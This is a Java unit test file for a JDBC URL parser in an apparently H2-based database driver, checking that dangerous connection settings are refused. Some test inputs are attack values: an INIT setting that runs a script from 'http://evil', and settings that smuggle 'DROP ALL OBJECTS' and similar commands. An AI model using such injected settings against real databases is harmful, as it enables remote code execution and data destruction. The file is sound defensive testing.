package io.blazedb.internal.jdbc.url;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.blazedb.ConnectionProperty;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UrlParserTest {
    @TempDir
    Path directory;

    @ParameterizedTest
    @CsvSource({
        "jdbc:blaze:mem:a, MEMORY, a, jdbc:blaze:mem:a",
        "jdbc:blaze:h2:mem:a, MEMORY, a, jdbc:blaze:mem:a",
        "jdbc:blaze:mem:, UNNAMED_MEMORY, '', jdbc:blaze:mem:",
        "jdbc:blaze:h2:mem:, UNNAMED_MEMORY, '', jdbc:blaze:mem:",
        "jdbc:blaze:./data/users;NODE=a, FILE, ./data/users, jdbc:blaze:./data/users",
        "jdbc:blaze:file:./users, FILE, ./users, jdbc:blaze:file:./users",
        "jdbc:blaze:h2:./users, FILE, ./users, jdbc:blaze:h2:./users",
        "jdbc:blaze:~/users, FILE, ~/users, jdbc:blaze:~/users",
        "jdbc:blaze:/tmp/users, FILE, /tmp/users, jdbc:blaze:/tmp/users",
        "jdbc:blaze:/tmp/users;IFEXISTS=TRUE, FILE, /tmp/users, jdbc:blaze:/tmp/users",
    })
    void aUrlNamesADatabase(String url, Location.Kind kind, String name, String publicUrl) throws SQLException {
        ConnectionSettings settings = parse(url);

        assertThat(settings.location().kind()).isEqualTo(kind);
        assertThat(settings.location().name()).isEqualTo(name);
        assertThat(settings.publicUrl()).isEqualTo(publicUrl);
    }

    @Test
    void twoWaysToWriteAPathAreOneDatabase() throws Exception {
        Path link =
                Files.createSymbolicLink(directory.resolve("link"), Files.createDirectory(directory.resolve("real")));

        Location direct = parse("jdbc:blaze:" + directory.resolve("real/users")).location();
        Location linked = parse("jdbc:blaze:file:" + link + "/../link/users").location();
        Location twice = parse("jdbc:blaze:h2:" + link.resolve("users")).location();

        assertThat(linked).isEqualTo(direct).hasSameHashCodeAs(direct);
        assertThat(twice).isEqualTo(direct);
        assertThat(direct.path()).isEqualTo(directory.toRealPath().resolve("real/users"));
    }

    @Test
    void aRelativePathAndTheHomeDirectoryBecomeAbsolute() throws SQLException {
        assertThat(parse("jdbc:blaze:./a").location().path())
                .isEqualTo(Path.of("a").toAbsolutePath());
        assertThat(parse("jdbc:blaze:~/a").location().path()).isEqualTo(Path.of(System.getProperty("user.home"), "a"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:blaze", "jdbc:h2:mem:a", "JDBC:BLAZE:mem:a", "blaze:mem:a", "", "jdbc:blazedb:mem:a"})
    void otherUrlsAreNotOurs(String url) {
        assertThat(UrlParser.accepts(url)).isFalse();
    }

    @Test
    void noUrlIsNotOurs() {
        assertThat(UrlParser.accepts(null)).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:blaze:|ZB101|names no database",
                "jdbc:blaze:h2:|ZB101|names no database",
                "jdbc:blaze:users|ZB101|jdbc:blaze:./users",
                "jdbc:blaze:file:users|ZB101|jdbc:blaze:./users",
                "jdbc:blaze:/tmp/|ZB101|ends in a directory",
                "jdbc:blaze:mem:a;NODE|ZB101|no '='",
                "jdbc:blaze:mem:a:h2:mem|ZB101|vanishes",
                "jdbc:blaze:tcp://localhost/a|0A000|embedded",
                "jdbc:blaze:ssl://localhost/a|0A000|embedded",
                "jdbc:blaze:zip:a.zip!/a|0A000|read-only",
                "jdbc:blaze:classpath:a|0A000|read-only",
                "jdbc:blaze:nioMemFS:a|0A000|log lies beside",
                "jdbc:blaze:split:./a|0A000|log lies beside",
                "jdbc:blaze:group:g/s|0A000|CONNECT TO SHARE 'g/s'",
                "jdbc:blaze:mem:a;UNKNOWN=1|ZB102|nobody knows: [UNKNOWN]",
                "jdbc:blaze:mem:a;NODE=a;NODE=b|ZB102|twice",
                "jdbc:blaze:mem:a;NODE=|ZB102|1 to 64",
                "jdbc:blaze:mem:a;SYNC_VALUE_MAX=0|ZB102|at least 1",
                "jdbc:blaze:mem:a;SYNC_VALUE_MAX=1k|ZB102|at least 1",
                "jdbc:blaze:mem:a;NODE=a b|ZB102|1 to 64",
                "jdbc:blaze:mem:a;ENCRYPT=MAYBE|ZB102|FALSE | TRUE",
                "jdbc:blaze:mem:a;DURABILITY=ALL|ZB102|FULL | NORMAL | OFF",
                "jdbc:blaze:mem:a;COMMIT=NEVER|ZB102|LOCAL | RECEIVED | ACCEPTED",
                "jdbc:blaze:mem:a;LOCK_TIMEOUT=1 DROP|ZB102|LOCK_TIMEOUT",
                "jdbc:blaze:mem:a;LOCK_TIMEOUT=1\\;DROP ALL OBJECTS|ZB102|LOCK_TIMEOUT",
                "jdbc:blaze:mem:a;SCHEMA=\"a\\\\b\"|ZB102|SCHEMA",
                "jdbc:blaze:mem:a;SCHEMA=a b|ZB102|SCHEMA",
                "jdbc:blaze:mem:a;NON_KEYWORDS=KEY\\;DROP|ZB102|NON_KEYWORDS",
                "jdbc:blaze:mem:a;TIME ZONE=a'b|ZB102|TIME ZONE",
                "jdbc:blaze:mem:a;DB_CLOSE_DELAY=-2|ZB102|DB_CLOSE_DELAY",
                "jdbc:blaze:mem:a;DB_CLOSE_DELAY=9999999999|ZB102|2147483647",
                "jdbc:blaze:mem:a;INIT=SELECT 1|0A000|blazedb.allowInit",
                "jdbc:blaze:mem:a;AUTO_SERVER=TRUE|0A000|CONNECT TO SHARE",
                "jdbc:blaze:mem:a;CLUSTER=''|0A000|CREATE TOPOLOGY",
                "jdbc:blaze:mem:a;CIPHER=AES|0A000|ENCRYPT=TRUE",
                "jdbc:blaze:mem:a;FILE_LOCK=NO|0A000|one process",
                "jdbc:blaze:mem:a;RECOVER=1|0A000|recovers",
                "jdbc:blaze:mem:a;TRACE_LEVEL_FILE=4|0A000|trace",
                "jdbc:blaze:mem:a;DATABASE_EVENT_LISTENER='a.B'|0A000|class",
                "jdbc:blaze:mem:a;JAVA_OBJECT_SERIALIZER='a.B'|0A000|class",
                "jdbc:blaze:mem:a;DEFAULT_TABLE_ENGINE=a.B|0A000|class",
                "jdbc:blaze:mem:a;WRITE_DELAY=0|0A000|DURABILITY",
                "jdbc:blaze:mem:a;DB_CLOSE_ON_EXIT=TRUE|0A000|at exit",
                "jdbc:blaze:mem:a;ACCESS_MODE_DATA=r|0A000|SELECT rights",
                "jdbc:blaze:mem:a;REFERENTIAL_INTEGRITY=FALSE|0A000|peer",
                "jdbc:blaze:mem:a;LOCK_MODE=0|0A000|LOCK_MODE=0",
                "jdbc:blaze:mem:a;IGNORE_UNKNOWN_SETTINGS=TRUE;INIT=SELECT 1|0A000|INIT",
            })
    void aBadUrlSaysWhatToDo(String url, String state, String message) {
        assertThatThrownBy(() -> parse(url))
                .isInstanceOfSatisfying(
                        SQLException.class, e -> assertThat(e.getSQLState()).isEqualTo(state))
                .hasMessageContaining(message);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "NON_KEYWORDS=KEY,VALUE",
                "TIME ZONE=Europe/Berlin",
                "TIME ZONE=GMT+02:00",
                "SCHEMA_SEARCH_PATH=A,B",
                "SCHEMA=\"My Schema\"",
                "MODE=PostgreSQL",
                "DATABASE_TO_UPPER=FALSE",
                "COLLATION=ENGLISH STRENGTH PRIMARY",
                "LOCK_TIMEOUT=10000",
                "DEFAULT_NULL_ORDERING=HIGH",
                "ALLOW_LITERALS=NUMBERS",
            })
    void aHarmlessSettingReachesH2(String setting) throws SQLException {
        String[] parts = setting.split("=", 2);

        ConnectionSettings settings = parse("jdbc:blaze:mem:a;" + setting);

        assertThat(settings.h2Settings()).containsOnly(Map.entry(parts[0], parts[1]));
        assertThat(settings.h2SettingsText()).isEqualTo(";" + setting);
    }

    @Test
    void whatTheEngineTakesDoesNotReachH2() throws SQLException {
        ConnectionSettings settings = parse("jdbc:blaze:mem:a;IfExists=true;DB_CLOSE_DELAY=-1;DB_CLOSE_ON_EXIT=FALSE;"
                + "AUTO_SERVER=FALSE;FILE_LOCK=FS;ACCESS_MODE_DATA=rw;;");

        assertThat(settings.h2Settings()).isEmpty();
        assertThat(settings.ifExists()).isTrue();
        assertThat(settings.closeDelaySeconds()).hasValue(-1);
    }

    @Test
    void propertiesAreReadLikeTheUrl() throws SQLException {
        Properties properties = new Properties();
        properties.setProperty("USER", "sa");
        properties.put("password", new char[] {'s'});
        properties.setProperty("encryptionpassword", "e");
        properties.setProperty("node", "laptop");
        properties.setProperty("Mode", "MySQL");
        properties.setProperty("left.by.a.tool", "x");

        ConnectionSettings settings = UrlParser.parse("jdbc:blaze:mem:a;durability=full;node=laptop", properties);

        assertThat(settings.user()).isEqualTo("sa");
        assertThat(settings.password().copy()).containsExactly('s');
        assertThat(settings.encryptionPassword().copy()).containsExactly('e');
        assertThat(settings.given(ConnectionProperty.NODE)).contains("laptop");
        assertThat(settings.value(ConnectionProperty.DURABILITY)).isEqualTo("FULL");
        assertThat(settings.given(ConnectionProperty.COMMIT)).isEmpty();
        assertThat(settings.value(ConnectionProperty.COMMIT)).isEqualTo("LOCAL");
        assertThat(settings.h2Settings()).containsOnly(Map.entry("MODE", "MySQL"));
    }

    @Test
    void aRefusedSettingIsRefusedInPropertiesToo() {
        Properties properties = new Properties();
        properties.setProperty("init", "RUNSCRIPT FROM 'http://evil'");

        assertThatThrownBy(() -> UrlParser.parse("jdbc:blaze:mem:a", properties))
                .hasMessageContaining("INIT")
                .hasMessageNotContaining("evil");
    }

    @Test
    void differentValuesInUrlAndPropertiesAreRefused() {
        Properties properties = new Properties();
        properties.setProperty("user", "a");

        assertThatThrownBy(() -> UrlParser.parse("jdbc:blaze:mem:a;USER=b", properties))
                .hasMessageContaining("USER")
                .hasMessageContaining("twice");
    }

    @Test
    void initRunsWhenTheProcessAllowsIt() throws SQLException {
        System.setProperty("blazedb.allowInit", "true");
        try {
            ConnectionSettings settings = parse("jdbc:blaze:mem:a;INIT=CREATE TABLE a(b INT)\\;SELECT '\\\\'");

            assertThat(settings.init()).contains("CREATE TABLE a(b INT);SELECT '\\'");
            assertThat(settings.h2Settings()).isEmpty();
        } finally {
            System.clearProperty("blazedb.allowInit");
        }
    }

    @Test
    void nothingOpensWhileH2MapsUrls() {
        System.setProperty("h2.urlMap", "map.properties");
        try {
            assertThatThrownBy(() -> parse("jdbc:blaze:mem:a")).hasMessageContaining("h2.urlMap");
        } finally {
            System.clearProperty("h2.urlMap");
        }
    }

    @Test
    void unknownSettingsAreIgnoredOnRequest() throws SQLException {
        assertThat(parse("jdbc:blaze:mem:a;WHAT=1;IGNORE_UNKNOWN_SETTINGS=TRUE").h2Settings())
                .containsOnlyKeys("IGNORE_UNKNOWN_SETTINGS");
    }

    @Test
    void passwordsAreNotPrinted() throws SQLException {
        ConnectionSettings settings = parse("jdbc:blaze:mem:a;PASSWORD=topsecret;ENCRYPTIONPASSWORD=hidden");

        assertThat(settings.toString()).doesNotContain("topsecret").doesNotContain("hidden");
        assertThat(settings.publicUrl()).doesNotContain("topsecret");
    }

    private static ConnectionSettings parse(String url) throws SQLException {
        return UrlParser.parse(url, new Properties());
    }
}
